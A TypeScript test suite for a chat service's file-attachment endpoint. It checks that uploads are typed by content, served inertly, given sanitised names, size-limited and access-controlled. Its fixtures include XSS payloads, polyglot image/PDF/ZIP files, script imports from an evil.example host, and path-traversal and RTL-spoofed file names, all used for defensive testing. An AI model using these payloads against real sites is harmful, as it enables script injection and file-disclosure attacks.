/** V11, A17: files of strangers. Typed by their bytes, never active in a browser, and only for those of the same talk. */
import { rm } from 'node:fs/promises';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Message } from '../../server/wire/messages.ts';
import { startHub, type TestHub } from '../support/hub.ts';
import {
  type Agent,
  type Answer,
  Caller,
  foundAs,
  inboxOf,
  join,
  type Visitor,
  visit,
  websiteOf,
} from '../support/people.ts';
import { postFile, uploadAs } from '../support/workspace.ts';

let hub: TestHub;
let ana: Agent;
let website: string;
let mia: Visitor;
let sent = 0;

beforeAll(async () => {
  hub = await startHub();
  ana = await foundAs(hub);
  website = (await websiteOf(ana)).id;
});

afterAll(() => hub.close());

/** Another visitor after a few files: each may send only so many. */
const someone = async (): Promise<Visitor> => {
  if (sent++ % 15 === 0) mia = await visit(hub, website);
  return mia;
};

const upload = async (name: string, content: string | Buffer) => {
  const who = await someone();
  return { who, answer: await postFile(who, who.at('attachments'), name, content) };
};

/** Attaches an upload, so that it can be opened. */
const attach = (who: Visitor, id: string) =>
  who.says('Look', { key: `attach-${id}`, attachments: [id] });

const PNG = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
  'base64',
);
const SCRIPT = '<script>document.title="owned"</script>';
const gif = Buffer.concat([Buffer.from('GIF89a/*'), Buffer.from(`*/=1;alert(1);${SCRIPT}`)]);

/** What browsers might run, under names and beginnings that pretend otherwise. */
const ACTIVE: [string, string | Buffer][] = [
  ['drawing.svg', `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${SCRIPT}</svg>`],
  ['drawing.png', `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg">${SCRIPT}</svg>`],
  ['photo.png', `<!doctype html><html><body>${SCRIPT}</body></html>`],
  ['photo.jpg.html', SCRIPT],
  ['page.html', `\ufeff   \n<html>${SCRIPT}`],
  [
    'page.xhtml',
    `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml">${SCRIPT}</html>`,
  ],
  ['feed.xml', `<?xml version="1.0"?><?xml-stylesheet href="javascript:alert(1)"?><a/>`],
  ['code.js', 'alert(document.cookie)'],
  ['code.mjs', 'import("https://evil.example/x.js")'],
  ['style.css', 'body { background: url(https://evil.example) }'],
  ['gif-and-script.gif', gif],
  ['png-and-page.png', Buffer.concat([PNG, Buffer.from(SCRIPT)])],
  ['document.pdf', `%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n`],
  [
    'zip-and-page.zip',
    Buffer.concat([Buffer.from('PK\x03\x04'), Buffer.alloc(40), Buffer.from(SCRIPT)]),
  ],
  ['utf7.txt', '+ADw-script+AD4-alert(1)+ADw-/script+AD4-'],
  ['utf16.txt', Buffer.from(`\ufeff${SCRIPT}`, 'utf16le')],
  ['nul.txt', `\0\0${SCRIPT}`],
  ['program.png', Buffer.from('MZ\x90\x00\x03', 'latin1')],
  ['empty-looking.png', ' '],
];

/** The types a browser may show in our origin; nothing in them runs. */
const HARMLESS = /^image\/(png|jpeg|gif|webp|avif)$/;

function expectInert({ headers }: Answer<unknown>, what: string): void {
  expect(headers['x-content-type-options'], what).toBe('nosniff');
  expect(headers['content-security-policy'], what).toBe(
    "default-src 'none'; sandbox; frame-ancestors 'none'",
  );
  const type = String(headers['content-type']);
  if (String(headers['content-disposition']).startsWith('inline')) {
    expect(type, what).toMatch(HARMLESS);
    return;
  }
  expect(headers['content-disposition'], what).toMatch(
    /^attachment; filename="[\w.-]+"; filename\*=/,
  );
  expect(type, what).toMatch(/^(application\/octet-stream|text\/plain; charset=utf-8)$/);
}

describe('V11: a file that could do something in a browser', () => {
  it.each(ACTIVE)('%s is refused or only ever downloaded', async (name, content) => {
    const { who, answer } = await upload(name, content);
    if (answer.status === 415) {
      expect(answer.body.code).toBe('media_type');
      return;
    }
    expect(answer.status).toBe(201);
    await attach(who, answer.body.id);
    const seen = await who.call('GET', who.at(`attachments/${answer.body.id}`));
    expect(seen.status).toBe(200);
    expectInert(seen, `${name} for the visitor`);
    const asAgent = await ana.call('GET', `/api/v1/attachments/${answer.body.id}`);
    expect(asAgent.status).toBe(200);
    expectInert(asAgent, `${name} for the agent`);
  });

  it('from a colleague is inert too, whatever it is', async () => {
    for (const [name, content] of ACTIVE) {
      const id = await uploadAs(ana, '/api/v1/attachments', name, content);
      const seen = await ana.call('GET', `/api/v1/attachments/${id}`);
      expect(seen.status).toBe(200);
      expectInert(seen, name);
    }
  });
});

describe('V11: a file’s type', () => {
  it('is found from its bytes, not from its name', async () => {
    const { who, answer } = await upload('notes.txt', PNG);
    expect(answer.body).toMatchObject({ type: 'image/png', inline: true, size: PNG.length });
    await attach(who, answer.body.id);
    const seen = await who.call('GET', who.at(`attachments/${answer.body.id}`));
    expect(seen.headers).toMatchObject({ 'content-type': 'image/png' });
    expect(seen.headers['content-disposition']).toMatch(/^inline/);
    const text = await upload('photo.png', 'Only words');
    expect(text.answer.body).toMatchObject({ type: 'text/plain', inline: false });
  });

  it('that the channel does not take is refused', async () => {
    const refused = await upload('setup.txt', Buffer.from(`MZ${'\0'.repeat(200)}`));
    expect(refused.answer).toMatchObject({ status: 415, body: { code: 'media_type' } });
  });
});

describe('V11: a file’s name', () => {
  const long = `${'long'.repeat(100)}.txt`;
  it.each([
    ['../../../../etc/passwd', 'passwd'],
    ['..\\..\\windows\\win.ini', 'win.ini'],
    ['/absolute/path.txt', 'path.txt'],
    ['..', 'file'],
    ['invoice\u202egpj.exe', 'invoicegpj.exe'],
    ['line\tbreak.txt', 'linebreak.txt'],
    ['写真 é 🎈.txt', '写真 é 🎈.txt'],
    ["semi; colon='x'.txt", "semi; colon='x'.txt"],
    [long, long.slice(-150)],
    [' ', 'file'],
  ])('is only a name: %.60s', async (given, kept) => {
    const { who, answer } = await upload(given, 'Some words');
    expect(answer).toMatchObject({ status: 201, body: { name: kept } });
    await attach(who, answer.body.id);
    const seen = await who.call('GET', who.at(`attachments/${answer.body.id}`));
    const disposition = String(seen.headers['content-disposition']);
    expect(disposition).toContain(`filename*=UTF-8''`);
    const encoded = disposition.split("UTF-8''")[1] ?? '';
    expect(decodeURIComponent(encoded)).toBe(kept);
    expect(disposition).toMatch(/^[\x20-\x7e]+$/);
    expect(seen.body).toBe('Some words');
  });
});

describe('V10: a file', () => {
  it('may have 20 MB and no byte more', async () => {
    const most = 20 * 1024 * 1024;
    const letters = Buffer.alloc(most, 'a');
    const { answer } = await upload('just-fits.txt', letters);
    expect(answer).toMatchObject({ status: 201, body: { size: most } });
    const over = await upload('too-big.txt', Buffer.concat([letters, Buffer.from('a')]));
    expect(over.answer).toMatchObject({ status: 413, body: { code: 'too_large' } });
  }, 60_000);

  it('of an agent may be as large as some channel carries', async () => {
    const all = [...hub.store.catalogue.values()];
    const largest = Math.max(...all.map(({ capabilities: it }) => it.attachments?.maxBytes ?? 0));
    expect(largest).toBeGreaterThan(20 * 1024 * 1024);
    const post = (size: number) =>
      postFile(ana, '/api/v1/attachments', 'x.txt', Buffer.alloc(size, 'a'));
    expect(await post(largest)).toMatchObject({ status: 201, body: { size: largest } });
    expect(await post(largest + 1)).toMatchObject({ status: 413, body: { code: 'too_large' } });
  }, 60_000);

  it('has something in it', async () => {
    const { answer } = await upload('empty.txt', '');
    expect(answer).toMatchObject({ status: 400, body: { code: 'invalid' } });
  });
});

describe('A17: a file is opened', () => {
  it('by the visitor of its talk and by agents, and by nobody else', async () => {
    const owner = await visit(hub, website);
    const stranger = await visit(hub, website);
    await stranger.says('I have a talk, too');
    const id = await uploadAs(owner, owner.at('attachments'), 'private.txt');
    const at = (who: Visitor) => who.call('GET', who.at(`attachments/${id}`));
    // Before it is sent nobody reads it, agents included.
    expect((await ana.call('GET', `/api/v1/attachments/${id}`)).status).toBe(404);
    await attach(owner, id);
    expect((await at(owner)).status).toBe(200);
    expect((await ana.call('GET', `/api/v1/attachments/${id}`)).status).toBe(200);

    expect((await at(stranger)).status).toBe(404);
    const nobody = new Caller(hub);
    expect((await nobody.call('GET', owner.at(`attachments/${id}`))).status).toBe(401);
    expect((await nobody.call('GET', `/api/v1/attachments/${id}`)).status).toBe(401);
    expect((await ana.call('GET', owner.at(`attachments/${id}`))).status).toBe(401);
  });

  it('by nobody when it was lost, which is said and logged as a failure of ours', async () => {
    const id = await uploadAs(ana, '/api/v1/attachments', 'lost.txt');
    await rm(path.join(hub.dataDir, 'files'), { recursive: true });
    const seen = await ana.call('GET', `/api/v1/attachments/${id}`);
    expect(seen).toMatchObject({ status: 500, body: { code: 'failure' } });
    expect(hub.logged.join()).toContain('MissingFileError');
    expect((await ana.call('GET', '/health/ready')).status).toBe(200);
  });

  it('A13: by no visitor when it hangs on a note', async () => {
    const visitor = await visit(hub, website);
    await visitor.says('Send me the file');
    const talk = (await inboxOf(ana, 'all')).find(({ preview }) => preview === 'Send me the file');
    const write = async (kind: 'note' | 'reply') => {
      const file = await uploadAs(ana, '/api/v1/attachments', `on-a-${kind}.txt`);
      await ana.call<Message>('POST', `/api/v1/conversations/${talk?.id}/messages`, {
        key: `file-on-${kind}`,
        kind,
        text: `With a file, as a ${kind}`,
        attachments: [file],
      });
      return visitor.call('GET', visitor.at(`attachments/${file}`));
    };
    expect((await write('reply')).status).toBe(200);
    expect((await write('note')).status).toBe(404);
  });

  it('by the colleague alone who uploaded it, until it is sent', async () => {
    const ben = await join(hub, ana, 'Ben Berg');
    const id = await uploadAs(ben, '/api/v1/attachments', 'draft.txt');
    expect((await ben.call('GET', `/api/v1/attachments/${id}`)).status).toBe(200);
    expect((await ana.call('GET', `/api/v1/attachments/${id}`)).status).toBe(404);
    const visitor = await visit(hub, website);
    await visitor.says('Whose file?');
    const talk = (await inboxOf(ana, 'all')).find(({ preview }) => preview === 'Whose file?');
    const stolen = await ana.call('POST', `/api/v1/conversations/${talk?.id}/messages`, {
      key: 'stolen-file-1',
      kind: 'note',
      text: 'With Ben’s file',
      attachments: [id],
    });
    expect(stolen.status).toBe(400);
  });
});
